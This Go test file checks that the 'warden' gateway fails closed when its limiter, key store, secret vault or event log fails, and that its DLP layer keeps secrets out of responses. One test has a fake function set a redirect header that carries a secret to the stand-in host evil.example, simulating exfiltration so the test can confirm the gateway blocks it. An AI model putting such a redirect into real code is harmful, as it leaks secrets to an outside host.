package gateway

import (
	"context"
	"encoding/json"
	"errors"
	"io"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync/atomic"
	"testing"

	"warden/internal/auth"
	"warden/internal/deploy"
	"warden/internal/dlp"
	"warden/internal/events"
	"warden/internal/health"
	"warden/internal/inspect"
	"warden/internal/manifest"
	"warden/internal/ratelimit"
	"warden/internal/router"
	"warden/internal/sandbox"
	"warden/internal/store"
)

// Fakes that fail on demand: the gateway must refuse (fail closed) when
// any dependency cannot decide.

type fakeRunner struct {
	resp  *sandbox.Response
	calls atomic.Int32
}

func (f *fakeRunner) Invoke(ctx context.Context, req *sandbox.Request) (*sandbox.Response, error) {
	f.calls.Add(1)
	r := *f.resp
	return &r, nil
}
func (f *fakeRunner) Prepare(context.Context) error { return nil }
func (f *fakeRunner) Close()                        {}

type fakeRoutes struct{ t *router.Table[*deploy.Active] }

func (f fakeRoutes) Routes() *router.Table[*deploy.Active] { return f.t }

type fakeLimiter struct{ err error }

func (f fakeLimiter) Allow(ctx context.Context, key string, rule ratelimit.Rule) (ratelimit.Decision, error) {
	if f.err != nil {
		return ratelimit.Decision{}, f.err
	}
	return ratelimit.Decision{Allowed: true, Limit: rule.Burst, Remaining: rule.Burst}, nil
}

type fakeKeys struct{ err error }

func (f fakeKeys) Verify(ctx context.Context, token string) (auth.Identity, error) {
	if f.err != nil {
		return auth.Identity{}, f.err
	}
	return auth.Identity{Method: "apikey", ID: "k1", Subject: "test"}, nil
}

type fakeIssuers struct{}

func (fakeIssuers) VerifyJWT(ctx context.Context, issuer, token string) (auth.Identity, error) {
	return auth.Identity{}, auth.ErrInvalidCredential
}

type fakeSecrets struct {
	values [][]byte
	err    error
}

func (f fakeSecrets) SecretScanners(ctx context.Context) (full, exact *dlp.Scanner, err error) {
	if f.err != nil {
		return nil, nil, f.err
	}
	return dlp.New(dlp.Options{Exact: f.values}), dlp.New(dlp.Options{Exact: f.values, ExactOnly: true}), nil
}

type setup struct {
	route   string // the manifest's http entry
	body    string // what the function answers
	ctype   string
	secrets inspect.Secrets
	limiter ratelimit.Limiter
	keys    Keys
}

type harness struct {
	gw  *Gateway
	fn  *fakeRunner
	ev  *events.Memory
	url string
}

func newHarness(t *testing.T, s setup) *harness {
	t.Helper()
	m, err := manifest.Parse("warden.yaml", []byte("name: fn\nabi: reactor\nartifact: ./fn.wasm\nhttp:\n"+s.route))
	if err != nil {
		t.Fatal(err)
	}
	fn := &fakeRunner{resp: &sandbox.Response{Status: 200, Header: http.Header{"Content-Type": {s.ctype}}, Body: []byte(s.body)}}
	a := &deploy.Active{Version: store.Version{Namespace: "default", Name: "fn", Version: 3}, Manifest: m, Fn: fn, Secrets: s.secrets}
	var entries []router.Entry[*deploy.Active]
	for _, r := range m.HTTP {
		entries = append(entries, router.Entry[*deploy.Active]{Owner: "default/fn", Route: r, Target: a})
	}
	table, err := router.Build(entries)
	if err != nil {
		t.Fatal(err)
	}
	ev := events.NewMemory()
	in, err := inspect.New(inspect.Config{Events: ev})
	if err != nil {
		t.Fatal(err)
	}
	if s.limiter == nil {
		s.limiter = fakeLimiter{}
	}
	if s.keys == nil {
		s.keys = fakeKeys{}
	}
	gw, err := New(Config{Routes: fakeRoutes{table}, Events: ev, Keys: s.keys, Issuers: fakeIssuers{}, Limiter: s.limiter,
		Inspector: in, Health: health.Checks{"events": func(context.Context) error { return ev.Health() }}, IPRule: ratelimit.Rule{Rate: 100, Per: 1e9, Burst: 100}, KeyRule: ratelimit.Rule{Rate: 100, Per: 1e9, Burst: 100}})
	if err != nil {
		t.Fatal(err)
	}
	return &harness{gw: gw, fn: fn, ev: ev}
}

func (h *harness) do(method, path string, hdr map[string]string) *httptest.ResponseRecorder {
	r := httptest.NewRequest(method, "https://fn.example"+path, nil)
	for k, v := range hdr {
		r.Header.Set(k, v)
	}
	w := httptest.NewRecorder()
	h.gw.Handler().ServeHTTP(w, r)
	return w
}

// problemOf checks w is problem+json with a request id matching the header
// and returns its detail.
func problemOf(t *testing.T, w *httptest.ResponseRecorder, status int) string {
	t.Helper()
	if w.Code != status {
		t.Fatalf("status = %d, want %d (body %s)", w.Code, status, w.Body)
	}
	if ct := w.Header().Get("Content-Type"); ct != "application/problem+json" {
		t.Fatalf("Content-Type = %q, want application/problem+json", ct)
	}
	var p struct {
		Detail    string `json:"detail"`
		RequestID string `json:"requestId"`
	}
	if err := json.Unmarshal(w.Body.Bytes(), &p); err != nil {
		t.Fatal(err)
	}
	if p.RequestID == "" || p.RequestID != w.Header().Get("X-Request-Id") {
		t.Fatalf("problem requestId %q, header %q: want the same, non-empty", p.RequestID, w.Header().Get("X-Request-Id"))
	}
	return p.Detail
}

func hasEvent(ev *events.Memory, typ, outcome string) bool {
	for _, e := range ev.Events() {
		if e.Type == typ && e.Outcome == outcome {
			return true
		}
	}
	return false
}

func TestNewRefusesMissingDependencies(t *testing.T) {
	ev := events.NewMemory()
	in, _ := inspect.New(inspect.Config{Events: ev})
	full := Config{Routes: fakeRoutes{}, Events: ev, Keys: fakeKeys{}, Issuers: fakeIssuers{}, Limiter: fakeLimiter{}, Inspector: in, Health: health.Checks{}}
	if _, err := New(full); err != nil {
		t.Fatalf("New(full config) = %v", err)
	}
	for name, drop := range map[string]func(*Config){
		"Routes": func(c *Config) { c.Routes = nil }, "Events": func(c *Config) { c.Events = nil },
		"Keys": func(c *Config) { c.Keys = nil }, "Issuers": func(c *Config) { c.Issuers = nil },
		"Limiter": func(c *Config) { c.Limiter = nil }, "Inspector": func(c *Config) { c.Inspector = nil },
		"Health": func(c *Config) { c.Health = nil },
	} {
		c := full
		drop(&c)
		if _, err := New(c); err == nil || !strings.Contains(err.Error(), name) {
			t.Errorf("New without %s = %v, want an error naming it", name, err)
		}
	}
}

func TestLimiterFailureRefuses(t *testing.T) {
	h := newHarness(t, setup{route: "  - route: \"GET /x\"\n    auth: none\n", body: "ok", limiter: fakeLimiter{err: errors.New("backend down")}})
	w := h.do("GET", "/x", nil)
	problemOf(t, w, http.StatusServiceUnavailable)
	if h.fn.calls.Load() != 0 {
		t.Fatal("the function ran although the limiter could not decide")
	}
}

func TestCredentialStoreFailureRefuses(t *testing.T) {
	h := newHarness(t, setup{route: "  - route: \"GET /x\"\n", body: "ok", keys: fakeKeys{err: errors.New("store down")}})
	w := h.do("GET", "/x", map[string]string{"Authorization": "Bearer wdn_key_abc_def"})
	problemOf(t, w, http.StatusServiceUnavailable)
	if h.fn.calls.Load() != 0 {
		t.Fatal("the function ran although the credential could not be checked")
	}
	if !hasEvent(h.ev, events.TypeRouteAuth, events.OutcomeFailure) {
		t.Fatalf("events %v, want a route.auth failure", h.ev.Types())
	}
	if strings.Contains(w.Body.String(), "store down") {
		t.Fatal("the internal cause reached the client")
	}
}

func TestInvalidCredentialRefused(t *testing.T) {
	h := newHarness(t, setup{route: "  - route: \"GET /x\"\n", body: "ok", keys: fakeKeys{err: auth.ErrInvalidCredential}})
	for _, hdr := range []map[string]string{nil, {"Authorization": "Bearer forged"}, {"X-API-Key": "forged"}} {
		w := h.do("GET", "/x", hdr)
		problemOf(t, w, http.StatusUnauthorized)
		if w.Header().Get("WWW-Authenticate") == "" {
			t.Error("401 without a challenge")
		}
	}
	if h.fn.calls.Load() != 0 {
		t.Fatal("the function ran for a forged credential")
	}
}

const secretValue = "gw-test-secret-value-0123456789"

func TestSecretsUnavailableRefusesAnswer(t *testing.T) {
	h := newHarness(t, setup{route: "  - route: \"GET /x\"\n    auth: none\n", body: "anything", ctype: "text/plain",
		secrets: fakeSecrets{err: errors.New("vault down")}})
	w := h.do("GET", "/x", nil)
	problemOf(t, w, http.StatusServiceUnavailable)
	if strings.Contains(w.Body.String(), "anything") {
		t.Fatal("an unchecked answer reached the client")
	}
	if !hasEvent(h.ev, events.TypeDLP, events.OutcomeFailure) {
		t.Fatalf("events %v, want a dlp.response failure", h.ev.Types())
	}
}

// TestSecretCheckedWhateverTheRoute: dlp off turns off the patterns, never
// the check for the function's own secrets.
func TestSecretCheckedWhateverTheRoute(t *testing.T) {
	for _, mode := range []string{"off", "redact", "block"} {
		for _, ctype := range []string{"application/json", "application/octet-stream"} {
			t.Run(mode+" "+ctype, func(t *testing.T) {
				card := "4111 1111 1111 1111"
				h := newHarness(t, setup{route: "  - route: \"GET /x\"\n    auth: none\n    dlp: " + mode + "\n",
					body: `{"v":"` + secretValue + `","card":"` + card + `"}`, ctype: ctype,
					secrets: fakeSecrets{values: [][]byte{[]byte(secretValue)}}})
				w := h.do("GET", "/x", nil)
				if strings.Contains(w.Body.String(), secretValue) {
					t.Fatalf("dlp %s, %s: the secret reached the client", mode, ctype)
				}
				switch {
				case mode == "block" || ctype == "application/octet-stream":
					problemOf(t, w, http.StatusBadGateway)
				case mode == "off":
					if w.Code != 200 || !strings.Contains(w.Body.String(), card) {
						t.Fatalf("dlp off: %d %s, want 200 with the card (patterns off)", w.Code, w.Body)
					}
				default:
					if w.Code != 200 || strings.Contains(w.Body.String(), card) {
						t.Fatalf("dlp redact: %d %s, want 200 with both redacted", w.Code, w.Body)
					}
				}
			})
		}
	}
}

func TestSecretInHeaderBlocked(t *testing.T) {
	h := newHarness(t, setup{route: "  - route: \"GET /x\"\n    auth: none\n    dlp: off\n", body: "fine", ctype: "text/plain",
		secrets: fakeSecrets{values: [][]byte{[]byte(secretValue)}}})
	h.fn.resp.Header.Set("Location", "https://evil.example/?t="+secretValue)
	w := h.do("GET", "/x", nil)
	problemOf(t, w, http.StatusBadGateway)
	if strings.Contains(w.Header().Get("Location"), secretValue) {
		t.Fatal("the secret left in a header")
	}
}

func TestRouteNotFoundIsProblem(t *testing.T) {
	h := newHarness(t, setup{route: "  - route: \"GET /x\"\n    auth: none\n", body: "ok"})
	problemOf(t, h.do("GET", "/nope", nil), http.StatusNotFound)
	w := h.do("POST", "/x", nil)
	problemOf(t, w, http.StatusMethodNotAllowed)
	if w.Header().Get("Allow") == "" {
		t.Error("405 without Allow")
	}
}

func TestAnswerPassesThrough(t *testing.T) {
	h := newHarness(t, setup{route: "  - route: \"GET /x\"\n    auth: none\n", body: "hello", ctype: "text/plain"})
	w := h.do("GET", "/x", nil)
	b, _ := io.ReadAll(w.Body)
	if w.Code != 200 || string(b) != "hello" || w.Header().Get("Strict-Transport-Security") == "" {
		t.Fatalf("GET /x = %d %q (HSTS %q)", w.Code, b, w.Header().Get("Strict-Transport-Security"))
	}
}

// TestEventPipelineFullRefuses: when the event pipeline cannot take the
// event of a refusal, the request gets 503 instead of the refusal (an
// attacker flooding the log cannot act unrecorded); /healthz says why; a
// request that causes no event is still served.
func TestEventPipelineFullRefuses(t *testing.T) {
	h := newHarness(t, setup{route: "  - route: \"GET /x\"\n  - route: \"GET /open\"\n    auth: none\n", body: "ok", ctype: "text/plain",
		keys: fakeKeys{err: auth.ErrInvalidCredential}})
	h.ev.SetUnavailable("the event store is not keeping up")
	for _, hdr := range []map[string]string{nil, {"Authorization": "Bearer forged"}} {
		w := h.do("GET", "/x", hdr)
		if d := problemOf(t, w, http.StatusServiceUnavailable); !strings.Contains(d, "not keeping up") {
			t.Errorf("detail %q, want the reason", d)
		}
		if w.Header().Get("Retry-After") == "" || w.Header().Get("WWW-Authenticate") != "" {
			t.Errorf("503 headers %v: want Retry-After and no challenge", w.Header())
		}
	}
	if n := len(h.ev.Events()); n != 0 {
		t.Fatalf("%d events stored while unavailable", n)
	}
	if h.ev.Refused() == 0 {
		t.Fatal("no TryEmit was refused: the gateway did not ask")
	}
	if w := h.do("GET", "/open", nil); w.Code != 200 {
		t.Fatalf("a request causing no event = %d, want 200", w.Code)
	}
	w := h.do("GET", "/healthz", nil)
	if w.Code != http.StatusServiceUnavailable || !strings.Contains(w.Body.String(), "not keeping up") {
		t.Fatalf("/healthz = %d %s, want 503 naming the events check", w.Code, w.Body)
	}
	h.ev.SetUnavailable("")
	if w := h.do("GET", "/healthz", nil); w.Code != 200 {
		t.Fatalf("/healthz after recovery = %d", w.Code)
	}
	problemOf(t, h.do("GET", "/x", nil), http.StatusUnauthorized)
}

// TestDLPFindingUnrecordedRefuses: an answer whose redaction cannot be
// recorded is refused, not passed.
func TestDLPFindingUnrecordedRefuses(t *testing.T) {
	h := newHarness(t, setup{route: "  - route: \"GET /x\"\n    auth: none\n", body: `{"v":"` + secretValue + `"}`, ctype: "application/json",
		secrets: fakeSecrets{values: [][]byte{[]byte(secretValue)}}})
	h.ev.SetUnavailable("stalled")
	w := h.do("GET", "/x", nil)
	problemOf(t, w, http.StatusServiceUnavailable)
	if strings.Contains(w.Body.String(), secretValue) {
		t.Fatal("the secret reached the client")
	}
}
